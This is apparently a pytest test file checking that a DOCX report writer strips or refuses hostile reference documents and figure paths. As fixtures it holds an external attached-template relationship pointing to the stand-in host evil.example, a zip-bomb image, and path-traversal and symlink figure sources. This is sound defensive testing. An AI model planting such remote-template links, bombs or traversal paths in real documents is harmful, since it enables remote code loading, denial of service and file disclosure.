"""What a reference.docx and a figure may bring into a DOCX profile (issue 15)."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

import docx
import pytest

from reportgen import model as m
from reportgen.config import Config
from reportgen.errors import WriterError
from reportgen.limits import Limits
from reportgen.writers import TEMPLATES
from reportgen.writers.docx import write_docx
from tests.writers.sample import sample_document

REFERENCE = TEMPLATES / "reference.docx"
SETTINGS_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"""


def altered_reference(tmp_path: Path, changes: dict[str, bytes], compress: bool = True) -> Path:
    """A copy of templates/reference.docx with parts replaced or added."""
    target = tmp_path / "reference.docx"
    with zipfile.ZipFile(REFERENCE) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            if name not in changes:
                out.writestr(name, source.read(name))
        for name, data in changes.items():
            out.writestr(name, data, zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED)
    return target


def with_attached_template(tmp_path: Path) -> Path:
    with zipfile.ZipFile(REFERENCE) as source:
        settings = source.read("word/settings.xml").decode()
    settings = settings.replace("<w:zoom ", '<w:attachedTemplate r:id="rId99"/><w:zoom ', 1)
    return altered_reference(tmp_path, {"word/settings.xml": settings.encode(),
                                        "word/_rels/settings.xml.rels": SETTINGS_RELS.encode(),
                                        "customXml/item1.xml": b"<secret>internal notes</secret>"})


def test_an_external_attached_template_never_reaches_a_profile(tmp_path: Path) -> None:
    reference = with_attached_template(tmp_path)
    data = write_docx(sample_document(), Config(reference_docx=reference))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        names = set(archive.namelist())
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
    assert b"internal notes" not in everything
    assert not {n for n in names if n.startswith(("customXml", "word/webSettings"))}
    document = docx.Document(io.BytesIO(data))  # an independent reader still opens it, styles intact
    assert document.styles["Heading 1"].type is not None


def test_a_zip_bomb_reference_is_refused_naming_the_file(tmp_path: Path) -> None:
    reference = altered_reference(tmp_path, {"word/media/image1.png": b"\0" * (40 * 1024 * 1024)})
    assert reference.stat().st_size < 200_000
    with pytest.raises(WriterError, match=rf"{reference}: refused as a reference document: expands to "):
        write_docx(sample_document(), Config(reference_docx=reference))


def test_a_whitelisted_part_that_inflates_beyond_the_limit(tmp_path: Path) -> None:
    with zipfile.ZipFile(REFERENCE) as source:
        styles = source.read("word/styles.xml")
    padded = styles.replace(b"?>", b"?><!--" + b" " * 400_000 + b"-->", 1)
    reference = altered_reference(tmp_path, {"word/styles.xml": padded})
    limits = Limits(reference_docx_bytes=300_000)
    with pytest.raises(WriterError, match=rf"{reference}: refused as a reference document"):
        write_docx(sample_document(), Config(reference_docx=reference, limits=limits))


@pytest.mark.parametrize("content", [b"not a zip", b"PK\x03\x04broken"])
def test_a_malformed_reference_names_the_file(tmp_path: Path, content: bytes) -> None:
    reference = tmp_path / "reference.docx"
    reference.write_bytes(content)
    with pytest.raises(WriterError, match=rf"^{reference}: not a usable DOCX reference document"):
        write_docx(sample_document(), Config(reference_docx=reference))


def test_a_reference_with_malformed_styles_names_the_file(tmp_path: Path) -> None:
    reference = altered_reference(tmp_path, {"word/styles.xml": b"<w:styles"})
    with pytest.raises(WriterError, match=rf"^{reference}: not a usable DOCX reference document \(malformed XML"):
        write_docx(sample_document(), Config(reference_docx=reference))


def test_a_figure_outside_templates_is_refused(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATES, templates, ignore=shutil.ignore_patterns("fonts"))
    outside = tmp_path / "private.png"
    shutil.copy(Path(__file__).resolve().parents[2] / "docs" / "after-at-a-glance-en.png", outside)
    (templates / "html" / "chart.png").symlink_to(outside)
    for src in ("../private.png", str(outside), "html/chart.png"):
        document = sample_document()
        document.sections[2].blocks.append(m.Figure(src, "alt"))
        with pytest.raises(WriterError, match=r"outside|not a path relative"):
            write_docx(document, Config(templates=templates))


@pytest.mark.parametrize("element", ["w:pgSz", "w:pgMar"])
def test_a_reference_without_page_size_or_margins_names_the_file(tmp_path: Path, element: str) -> None:
    with zipfile.ZipFile(REFERENCE) as source:
        document = source.read("word/document.xml").decode()
    stripped, found = re.subn(rf"<{element} [^>]*/>", "", document)
    assert found == 1
    reference = altered_reference(tmp_path, {"word/document.xml": stripped.encode()})
    with pytest.raises(WriterError, match=rf"^{reference}: not a usable DOCX reference document \(no page width"):
        write_docx(sample_document(), Config(reference_docx=reference))
